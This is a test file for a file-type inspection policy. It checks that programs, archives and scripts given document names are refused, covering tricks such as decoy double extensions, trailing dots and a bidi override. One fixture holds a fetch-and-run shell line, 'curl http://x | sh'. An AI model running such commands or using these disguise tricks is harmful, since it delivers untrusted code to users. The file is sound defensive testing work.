/**
 * Issue #16.2, disguised files: a program, script or archive under the name of a harmless
 * document is the commonest way to smuggle one past an operator. Every variant (each program
 * kind under each harmless name, each name trick a desktop forgives: case, trailing dots and
 * spaces, a bidi override, a decoy double extension) is a TYPE_MISMATCH the default policy refuses.
 */
import { describe, expect, it } from 'vitest';
import { resolveInspectPolicy } from '../../electron/core/policy/inspect-policy.js';
import { detectType } from '../../electron/core/inspect/types/detect-type.js';
import { typeFindings } from '../../electron/core/inspect/types/type-findings.js';
import * as corpus from '../helpers/type-corpus.js';

const defaults = resolveInspectPolicy({})?.types;
if (defaults === undefined) throw new Error('unreachable: an inspect section was given');

const PROGRAMS: Array<[string, Buffer]> = [
  ['PE', corpus.pe()],
  ['DOS MZ', Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1')],
  ['ELF', corpus.elf()],
  ['Mach-O', corpus.machO64()],
  ['Mach-O fat', corpus.machOFat()],
  ['Java class', corpus.javaClass()],
  ['MSI', corpus.ole({ clsid: corpus.MSI_CLSID })],
];
const ARCHIVES: Array<[string, Buffer]> = [
  ['zip', corpus.zip([{ name: 'a.exe', data: corpus.pe() }])],
  ['gzip', corpus.gzip()],
  ['tar', corpus.tar('a.exe', corpus.pe())],
  ['7z', corpus.sevenZip()],
];
const DOCUMENT_NAMES = [
  'invoice.pdf',
  'photo.jpg',
  'photo.jpeg',
  'scan.png',
  'anim.gif',
  'letter.docx',
  'sheet.xlsx',
  'slides.pptx',
  'letter.doc',
  'sheet.xls',
];
const TEXT_NAMES = ['readme.txt', 'data.csv', 'config.json', 'feed.xml', 'notes.md', 'server.log'];
/** What a desktop still opens by the last extension. */
const NAME_TRICKS: Array<[string, (name: string) => string]> = [
  ['as is', (n) => n],
  ['upper case', (n) => n.toUpperCase()],
  ['trailing dot', (n) => `${n}.`],
  ['trailing spaces and dots', (n) => `${n} . `],
  ['in a folder named like a program', (n) => `data/setup.exe/${n}`],
  ['behind a decoy extension', (n) => `data/run.exe.${n.slice(n.lastIndexOf('.') + 1)}`],
];

async function refusedAsMismatch(bytes: Buffer, name: string): Promise<boolean> {
  const detection = await detectType(bytes, name);
  const findings = typeFindings(detection, null, defaults as NonNullable<typeof defaults>);
  return detection.mismatch && findings.some((f) => f.code === 'TYPE_MISMATCH' && f.severity === 'refuse');
}

describe('a program under a document`s name is a mismatch', () => {
  for (const [kind, bytes] of PROGRAMS) {
    it(`${kind} under every document and text name, with every name trick`, async () => {
      const missed: string[] = [];
      for (const base of [...DOCUMENT_NAMES, ...TEXT_NAMES]) {
        for (const [trick, apply] of NAME_TRICKS) {
          // An MSI is an OLE file: under .doc/.xls the OLE family is not a mismatch unless the class id says MSI (it does here).
          if (!(await refusedAsMismatch(bytes, apply(base)))) missed.push(`${apply(base)} (${trick})`);
        }
      }
      expect(missed).toEqual([]);
    });
  }
});

describe('an archive under a text or document name is a mismatch', () => {
  for (const [kind, bytes] of ARCHIVES) {
    it(`${kind} under every text and (non-zip) document name`, async () => {
      const names = [...TEXT_NAMES, 'invoice.pdf', 'photo.jpg', 'scan.png', 'letter.doc'];
      const missed: string[] = [];
      for (const name of names) if (!(await refusedAsMismatch(bytes, name))) missed.push(name);
      expect(missed).toEqual([]);
    });
  }
});

describe('a script under a document name is a mismatch, and a script by name is a script', () => {
  it('a #! script named as an image or a document', async () => {
    for (const name of ['photo.jpg', 'invoice.pdf', 'letter.docx', 'tool.exe']) {
      expect(await refusedAsMismatch(Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), name)).toBe(true);
    }
  });
  it('script extensions are flagged whatever the content says, and a script holding a program is a mismatch', async () => {
    for (const name of ['run.PS1', 'a.vbs.', 'a.js ', 'a.bat', 'a.cmd', 'a.hta', 'a.wsf', 'a.py']) {
      expect((await detectType(Buffer.from('x = 1\n'), name)).script).toBe(true);
      expect(await refusedAsMismatch(corpus.pe(), name)).toBe(true);
    }
  });
});

describe('a bidi override cannot make an executable look like a document', () => {
  it('reads the real last extension: "invoice\u202Efdp.exe" is .exe', async () => {
    const detection = await detectType(corpus.pe(), 'data/invoice\u202efdp.exe');
    expect(detection.extension).toBe('exe');
    expect(detection.executable).toBe(true);
    const findings = typeFindings(detection, null, { ...defaults, denyExtensions: ['exe'] });
    expect(findings.map((f) => f.code)).toContain('TYPE_DENIED');
  });
});

describe('what is not a disguise is not refused', () => {
  it('each format under its own name, in either case', async () => {
    const own: Array<[string, Buffer]> = [
      ['a.pdf', corpus.pdf()],
      ['a.JPG', corpus.jpeg()],
      ['a.png', corpus.png()],
      ['a.gif', corpus.gif()],
      ['a.zip', corpus.zip([{ name: 'x', data: 'y' }])],
      ['a.tar', corpus.tar()],
      ['a.tgz', corpus.gzip()],
      ['a.7z', corpus.sevenZip()],
      ['a.docx', corpus.ooxml()],
      ['a.doc', corpus.ole({ clsid: corpus.WORD_CLSID })],
      ['a.exe', corpus.pe()],
      ['a.so', corpus.elf()],
      ['a.dylib', corpus.machO64()],
      ['a.msi', corpus.ole({ clsid: corpus.MSI_CLSID })],
      ['a.sh', Buffer.from('#!/bin/sh\n')],
      ['a.txt', Buffer.from('hello\n')],
      ['a.xml', Buffer.from('<?xml version="1.0"?><a/>')],
    ];
    for (const [name, bytes] of own) expect(await refusedAsMismatch(bytes, name), name).toBe(false);
  });
});
